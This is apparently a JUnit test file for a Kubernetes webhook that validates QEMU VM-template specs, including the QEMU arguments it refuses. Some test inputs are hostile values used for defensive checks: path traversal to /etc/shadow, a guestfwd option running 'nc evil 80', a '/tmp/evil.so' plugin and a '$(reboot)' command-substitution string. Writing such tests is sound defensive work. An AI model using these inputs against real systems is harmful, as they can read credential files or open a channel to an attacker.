package io.vmtemplating.webhook;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vmtemplating.api.v1alpha1.VmTemplate;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.function.Consumer;

import static org.junit.jupiter.api.Assertions.assertEquals;

class VmTemplateValidatorTest {

    @Test
    void validTemplatePasses() {
        assertEquals(List.of(), VmTemplateValidator.validate(Fixtures.template()));
    }

    @Test
    void specRules() {
        testError(spec -> spec.remove("memory"), "spec.memory: is required; set memory.size, e.g. 512Mi");
        testError(spec -> spec.remove("boot"), "spec.boot: is required; set boot.kernel, boot.disk or both");
        testError(spec -> spec.put("cpus", 0), "spec.cpus: 0 is out of range; set 1 to 64");
        testError(spec -> spec.putObject("claimData"), "spec.claimData.directory: is required; name the guest directory"
                + " that receives each clone's files, e.g. /run/vmtemplating");
        testError(spec -> spec.putObject("claimData").put("directory", "/run/vmtemplating"));
    }

    @Test
    void memoryRules() {
        testError(spec -> spec.withObject("/memory").remove("size"),
                "spec.memory.size: is required; set a size in Mi or Gi, e.g. 512Mi");
        testError(spec -> spec.withObject("/memory").put("size", "512M"),
                "spec.memory.size: \"512M\" is not a size in Mi or Gi; write a whole number of Mi or Gi, e.g. 512Mi");
        testError(spec -> spec.withObject("/memory").put("backend", "hugetlbfs"),
                "spec.memory.hugePageSize: is required when memory.backend is hugetlbfs; set 2Mi or 1Gi");
        testError(spec -> spec.withObject("/memory").put("backend", "hugetlbfs").put("hugePageSize", "1Gi"),
                "spec.memory.size: 512Mi is not a multiple of the 1Gi huge page size; make it a multiple of 1Gi",
                "spec.devices.virtioMem.blockSize: 2Mi is not a multiple of the 1Gi huge page size; make it a multiple of 1Gi");
        testError(spec -> spec.withObject("/memory").put("size", "513Mi").put("backend", "hugetlbfs").put("hugePageSize", "2Mi"),
                "spec.memory.size: 513Mi is not a multiple of the 2Mi huge page size; make it a multiple of 2Mi");
        testError(spec -> spec.withObject("/memory").putArray("numaNodes").add(numa("256Mi")).add(numa("128Mi")),
                "spec.memory.numaNodes: node sizes add up to 384Mi but memory.size is 512Mi; make them add up to memory.size");
        testError(spec -> spec.withObject("/memory").putArray("numaNodes").add(numa("256Mi")).add(numa("2Gi")),
                "spec.memory.numaNodes: node sizes add up to 2304Mi but memory.size is 512Mi; make them add up to memory.size");
        testError(spec -> spec.withObject("/memory").put("backend", "hugetlbfs").put("hugePageSize", "2Mi")
                        .putArray("numaNodes").add(numa("255Mi")).add(numa("257Mi")),
                "spec.memory.numaNodes[0].size: 255Mi is not a multiple of the 2Mi huge page size; make it a multiple of 2Mi",
                "spec.memory.numaNodes[1].size: 257Mi is not a multiple of the 2Mi huge page size; make it a multiple of 2Mi");
        testError(spec -> spec.withObject("/memory").putArray("numaNodes").add(numa("1G")),
                "spec.memory.numaNodes[0].size: \"1G\" is not a size in Mi or Gi; write a whole number of Mi or Gi, e.g. 512Mi");
    }

    @Test
    void bootRules() {
        testError(spec -> spec.withObject("/boot").remove("kernel"),
                "spec.boot: nothing to boot; set boot.kernel, boot.disk or both",
                "spec.boot.initrd: an initrd needs a kernel; set boot.kernel or remove boot.initrd",
                "spec.boot.cmdline: a command line needs a kernel; set boot.kernel or remove boot.cmdline");
        testError(spec -> spec.withObject("/boot/kernel").putObject("image").put("reference", "r/k:1").put("path", "vmlinuz"),
                "spec.boot.kernel: set exactly one of hostPath, persistentVolumeClaim or image");
        testError(spec -> spec.withObject("/boot/initrd").removeAll(),
                "spec.boot.initrd: set exactly one of hostPath, persistentVolumeClaim or image");
        testError(spec -> spec.withObject("/boot/initrd/hostPath").put("path", "/var/lib/vmtemplating/guest/../../../../etc/shadow"),
                "spec.boot.initrd.hostPath.path: must be a normalized path without '..', '.' or '//' segments; write it as /etc/shadow");
        String outside = " must be a file inside a boot-file directory the cluster admin allows (/var/lib/vmtemplating/guest);"
                + " copy the file there, or ask the admin to add its directory to vmt.boot-file-dirs";
        testError(spec -> spec.withObject("/boot/initrd/hostPath").put("path", "/etc/shadow"),
                "spec.boot.initrd.hostPath.path:" + outside);
        testError(spec -> spec.withObject("/boot/kernel/hostPath").put("path", "/var/lib/vmtemplating/templates/0f3e/state"),
                "spec.boot.kernel.hostPath.path:" + outside);
        // the directory itself is no file in it; a sibling with the same prefix is another directory
        testError(spec -> spec.withObject("/boot/kernel/hostPath").put("path", "/var/lib/vmtemplating/guest"),
                "spec.boot.kernel.hostPath.path:" + outside);
        testError(spec -> spec.withObject("/boot/kernel/hostPath").put("path", "/var/lib/vmtemplating/guest-other/vmlinuz"),
                "spec.boot.kernel.hostPath.path:" + outside);
        testError(spec -> spec.withObject("/boot/kernel/hostPath").put("path", "vmlinuz"),
                "spec.boot.kernel.hostPath.path: must be an absolute path on the node, e.g. /var/lib/vmtemplating/guest/vmlinuz");
        testError(spec -> spec.withObject("/boot").putObject("disk").putObject("source").putObject("persistentVolumeClaim")
                        .put("claimName", "disks").put("path", "../etc/shadow"),
                "spec.boot.disk.source.persistentVolumeClaim.path: must be a relative path inside the volume without '..', e.g. boot/vmlinuz");
    }

    @Test
    void deviceRules() {
        testError(spec -> spec.withObject("/devices").putArray("vhostUser").addObject().put("type", "blk").put("socketPath", "/run/vhost.sock"),
                "spec.devices.vhostUser[0]: " + ExtraArgsRule.VHOST_USER);
        testError(spec -> spec.withObject("/devices/balloon").put("freePageReporting", true),
                "spec.devices.balloon.freePageReporting: free page reporting cannot discard file-backed template memory; set it to false");
        testError(spec -> spec.withObject("/devices/balloon").put("enabled", true).put("freePageHinting", true),
                "spec.devices.balloon.freePageHinting: free page hinting cannot discard file-backed template memory; set it to false");
        testError(spec -> spec.withObject("/devices/balloon").put("enabled", true).put("targetSize", "256Mi"),
                "spec.devices.balloon.targetSize: a target below memory.size (512Mi) inflates the balloon, which cannot"
                        + " discard file-backed template memory (QEMU logs an error per page); remove it or set it to memory.size");
        testError(spec -> spec.withObject("/devices/virtioMem").put("requestedSize", "128Mi"),
                "spec.devices.virtioMem.requestedSize: must be 0 on a template: plugged virtio-mem memory cannot be part of"
                        + " template memory; set it to 0 and plug memory in clones (VmClone spec.virtioMem)");
        testError(spec -> spec.withObject("/devices/virtioMem").put("blockSize", "3Mi"),
                "spec.devices.virtioMem.blockSize: 3Mi is not a power of two of at least 2Mi; use 2Mi, 4Mi, 8Mi, ...");
        testError(spec -> spec.withObject("/devices/virtioMem").put("blockSize", "1Mi"),
                "spec.devices.virtioMem.blockSize: 1Mi is not a power of two of at least 2Mi; use 2Mi, 4Mi, 8Mi, ...");
        testError(spec -> spec.withObject("/devices/virtioMem").put("size", "1023Mi"),
                "spec.devices.virtioMem.size: 1023Mi is not a multiple of the block size 2Mi; make it a multiple of 2Mi");
        testError(spec -> spec.withObject("/memory").put("size", "1Gi").put("backend", "hugetlbfs").put("hugePageSize", "1Gi"),
                "spec.devices.virtioMem.blockSize: 2Mi is not a multiple of the 1Gi huge page size; make it a multiple of 1Gi");
    }

    @Test
    void freezeRules() {
        testError(spec -> spec.withObject("/freeze").remove("serialConsolePattern"),
                "spec.freeze.serialConsolePattern: is required when freeze.trigger is SerialConsole; set a regular"
                        + " expression the guest prints when ready, e.g. READY");
        testError(spec -> spec.withObject("/freeze").put("trigger", "Delay"),
                "spec.freeze.delaySeconds: is required when freeze.trigger is Delay; set the seconds to wait");
        testError(spec -> spec.withObject("/freeze").put("serialConsolePattern", "READY("),
                "spec.freeze.serialConsolePattern: is not a valid regular expression (Unclosed group); fix or quote it");
        testCapability("release-ram", "release-ram discards RAM after sending it, which would punch holes into the"
                + " template's memory file; remove it");
        testCapability("x-release-ram", "x-release-ram discards RAM after sending it, which would punch holes into"
                + " the template's memory file; remove it (QEMU 10 calls it release-ram)");
        testCapability("postcopy-ram", "postcopy-ram needs guest RAM in the migration stream (QEMU: Postcopy is not"
                + " compatible with ignore-shared); remove it");
        testCapability("x-ignore-shared", "x-ignore-shared is always on for the state save; remove it");
        testCapability("multifd", "multifd is for live migration or for saving RAM, but the template's state is saved"
                + " from a stopped VM with its RAM left in the memory file (x-ignore-shared); remove it (allowed: events, validate-uuid)");
        testCapability("turbo", "\"turbo\" is not a QEMU 10 migration capability this operator allows; use one of"
                + " events, validate-uuid or remove it");
        testError(spec -> spec.withObject("/freeze").putArray("migrationCapabilities").add("events").add("validate-uuid"));
    }

    @Test
    void extraArgsRules() {
        testArgs(List.of("-rtc", "base=utc", "-device", "virtio-net-pci,netdev=n1", "-netdev", "user,id=n1", "-no-reboot"));
        testArgs(List.of("-mem-path", "/dev/hugepages"), "spec.qemu.extraArgs[0]: -mem-path would move guest RAM out"
                + " of the template file (QEMU: '-mem-path' can't be used together with '-machine memory-backend');"
                + " remove it and use spec.memory");
        testArgs(List.of("-mem-prealloc"), "spec.qemu.extraArgs[0]: -mem-prealloc configures guest memory, which the operator owns; remove it");
        testArgs(List.of("-rtc", "base=utc", "-object", "memory-backend-file,id=m1,size=1G,mem-path=/dev/shm/x"),
                "spec.qemu.extraArgs[3]: extra memory backends would hold guest RAM outside the template file;"
                        + " remove it (use spec.memory.numaNodes or spec.devices.virtioMem)");
        testArgs(List.of("-numa", "node,memdev=m1"), "spec.qemu.extraArgs[0]: -numa configures guest memory, which"
                + " the operator owns; use spec.memory.numaNodes");
        testArgs(List.of("-incoming", "defer"), "spec.qemu.extraArgs[0]: -incoming is how the operator restores"
                + " clones (-incoming defer, then migrate-incoming); remove it");
        testArgs(List.of("-machine", "q35,memory-backend=m1"), "spec.qemu.extraArgs[1]: -machine memory-backend would"
                + " put guest RAM outside the template file; remove it (the operator sets memory-backend itself)");
        testArgs(List.of("-M", "pc"), "spec.qemu.extraArgs[0]: -M is set by the operator; use spec.machine");
        testArgs(List.of("-chardev", "socket,id=c,path=/run/vhost-user.sock"), "spec.qemu.extraArgs[1]: " + ExtraArgsRule.VHOST_USER);
        testArgs(List.of("-machine", "x-remote"), "spec.qemu.extraArgs[1]: " + ExtraArgsRule.MULTI_PROCESS);
        testArgs(List.of("-device", "vfio-user-pci,socket=/tmp/s"), "spec.qemu.extraArgs[1]: " + ExtraArgsRule.MULTI_PROCESS);
        testArgs(List.of("-device", "virtio-mem-pci,memdev=pc.ram"), "spec.qemu.extraArgs[1]: extra memory backends"
                + " would hold guest RAM outside the template file; remove it (use spec.memory.numaNodes or spec.devices.virtioMem)");
        testArgs(List.of("-device", "virtio-mem-pci,id=vm0"), "spec.qemu.extraArgs[1]: virtio-mem here could be"
                + " backed by template memory, which QEMU cannot discard (it fails at realize); use spec.devices.virtioMem");
        testArgs(List.of("-device", "virtio-balloon-pci,free-page-reporting=on"), "spec.qemu.extraArgs[1]: a balloon"
                + " here could report free pages into file-backed template memory; use spec.devices.balloon");
        testArgs(List.of("-device", "vfio-pci,host=01:00.0"), "spec.qemu.extraArgs[1]: device \"vfio-pci\" is not on"
                + " the allow-list of extra devices; remove it (see docs/webhook.md for the allowed devices)");
        testArgs(List.of("-drive", "file=/etc/shadow,format=raw"), "spec.qemu.extraArgs[0]: -drive refers to files on"
                + " the host that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
        testArgs(List.of("-kernel", "/boot/vmlinuz"), "spec.qemu.extraArgs[0]: -kernel refers to files on the host"
                + " that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
        testArgs(List.of("-netdev", "tap,id=n0"), "spec.qemu.extraArgs[1]: -netdev tap needs host network devices the"
                + " pod does not have; use spec.devices.network.mode user");
        testArgs(List.of("-netdev", "user,id=n0,smb=/srv"), "spec.qemu.extraArgs[1]: smb= refers to files on the host"
                + " that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
        testArgs(List.of("-netdev", "user,id=n0,guestfwd=tcp:10.0.2.100:80-cmd:nc evil 80"), "spec.qemu.extraArgs[1]:"
                + " guestfwd connects the guest to host commands or sockets; remove it");
        testArgs(List.of("-netdev", "user,id=n0,hostfwd=tcp::2222-:22"), "spec.qemu.extraArgs[1]: hostfwd belongs to"
                + " each clone, not to the template; use VmClone spec.portForwards");
        testArgs(List.of("-qmp", "unix:/tmp/q.sock"), "spec.qemu.extraArgs[0]: -qmp: the operator owns QEMU's monitor and QMP; remove it");
        testArgs(List.of("-serial", "file:/tmp/log"), "spec.qemu.extraArgs[0]: -serial: the operator owns the serial"
                + " console; use spec.devices.serialConsole");
        testArgs(List.of("-plugin", "/tmp/evil.so"), "spec.qemu.extraArgs[0]: -plugin refers to files on the host"
                + " that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
        testArgs(List.of("-name", "a\nb"), "spec.qemu.extraArgs[1]: contains a NUL or line break, which cannot be"
                + " passed to QEMU faithfully; remove it");
        testArgs(List.of("-name", "$(reboot);|&"));
        testArgs(List.of("-rtc"), "spec.qemu.extraArgs[0]: -rtc needs a value after it; add it or remove the option");
        testArgs(List.of("base=utc"), "spec.qemu.extraArgs[0]: \"base=utc\" is not a QEMU option; write each option"
                + " followed by its value, e.g. \"-rtc\", \"base=utc\"");
        testArgs(List.of("-snapshot-x", "on", "-no-reboot"), "spec.qemu.extraArgs[0]: -snapshot-x is not on the"
                + " allow-list of extra QEMU options; remove it (see docs/webhook.md for the allowed options)");
        testArgs(List.of("--device", "e1000,romfile=/x.rom"), "spec.qemu.extraArgs[1]: romfile= refers to files on"
                + " the host that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
    }

    @Test
    void everyViolationAtOnce() {
        testError(spec -> {
            spec.withObject("/devices/balloon").put("freePageReporting", true).put("freePageHinting", true);
            spec.withObject("/qemu").putArray("extraArgs").add("-mem-prealloc").add("-incoming").add("defer");
        },
                "spec.devices.balloon.freePageReporting: free page reporting cannot discard file-backed template memory; set it to false",
                "spec.devices.balloon.freePageHinting: free page hinting cannot discard file-backed template memory; set it to false",
                "spec.qemu.extraArgs[0]: -mem-prealloc configures guest memory, which the operator owns; remove it",
                "spec.qemu.extraArgs[1]: -incoming is how the operator restores clones (-incoming defer, then migrate-incoming); remove it");
    }

    @Test
    void specIsImmutable() {
        VmTemplate old = Fixtures.template();
        ObjectNode changed = Fixtures.tree(Fixtures.TEMPLATE);
        changed.withObject("/spec").put("cpus", 4);
        changed.withObject("/spec/memory").put("size", "1Gi");
        assertEquals(List.of("spec.cpus: " + VmTemplateValidator.IMMUTABLE, "spec.memory: " + VmTemplateValidator.IMMUTABLE),
                render(VmTemplateValidator.validateUpdate(old, Fixtures.template(changed))));
        ObjectNode relabelled = Fixtures.tree(Fixtures.TEMPLATE);
        relabelled.withObject("/metadata").putObject("labels").put("team", "a");
        assertEquals(List.of(), VmTemplateValidator.validateUpdate(old, Fixtures.template(relabelled)));
    }

    @Test
    void unchangedInvalidSpecStillAcceptsMetadataUpdates() {
        ObjectNode invalid = Fixtures.tree(Fixtures.TEMPLATE);
        invalid.withObject("/spec/devices/balloon").put("freePageReporting", true);
        ObjectNode withoutFinalizer = invalid.deepCopy();
        invalid.withObject("/metadata").putArray("finalizers").add("vmtemplating.io/clones");
        assertEquals(List.of(), VmTemplateValidator.validateUpdate(Fixtures.template(invalid), Fixtures.template(withoutFinalizer)));
    }

    private static ObjectNode numa(String size) {
        return Fixtures.tree("size: " + size);
    }

    private static void testCapability(String capability, String expected) {
        testError(spec -> spec.withObject("/freeze").putArray("migrationCapabilities").add("events").add(capability),
                "spec.freeze.migrationCapabilities[1]: " + expected);
    }

    private static void testArgs(List<String> args, String... expected) {
        testError(spec -> args.forEach(spec.withObject("/qemu").withArray("extraArgs")::add), expected);
    }

    @Test
    void placementRules() {
        String hostCpu = "spec.qemu.extraArgs[1]: -cpu host takes the CPU model of the node it runs on, and spec.placement.copies 3"
                + " freezes copies on different nodes: a clone restored on a node with another CPU fails. Name a model every node"
                + " runs (e.g. -cpu qemu64, or the oldest of your nodes' models such as -cpu Skylake-Server) or set copies 1";
        testError(spec -> {
            spec.putObject("placement").put("copies", 3);
            spec.withObject("/qemu").putArray("extraArgs").add("-cpu").add("host");
        }, hostCpu);
        testError(spec -> {
            spec.putObject("placement").put("copies", 3);
            spec.withObject("/qemu").putArray("extraArgs").add("-cpu").add("max,+avx2");
        }, hostCpu.replace("-cpu host takes", "-cpu max takes"));
        // one copy may follow its node's CPU; several copies with a named model are fine
        testError(spec -> {
            spec.putObject("placement").put("copies", 1);
            spec.withObject("/qemu").putArray("extraArgs").add("-cpu").add("host");
        });
        testError(spec -> {
            spec.putObject("placement").put("copies", 3);
            spec.withObject("/qemu").putArray("extraArgs").add("-cpu").add("Skylake-Server");
        });
        testError(spec -> spec.putObject("placement").put("copies", 17), "spec.placement.copies: 17 is out of range; set 1 to 16");
    }

    static void testError(Consumer<ObjectNode> editSpec, String... expected) {
        ObjectNode tree = Fixtures.tree(Fixtures.TEMPLATE);
        editSpec.accept((ObjectNode) tree.get("spec"));
        assertEquals(List.of(expected), render(VmTemplateValidator.validate(Fixtures.template(tree))), tree.toString());
    }

    static List<String> render(List<Violation> violations) {
        return violations.stream().map(Violation::render).toList();
    }
}
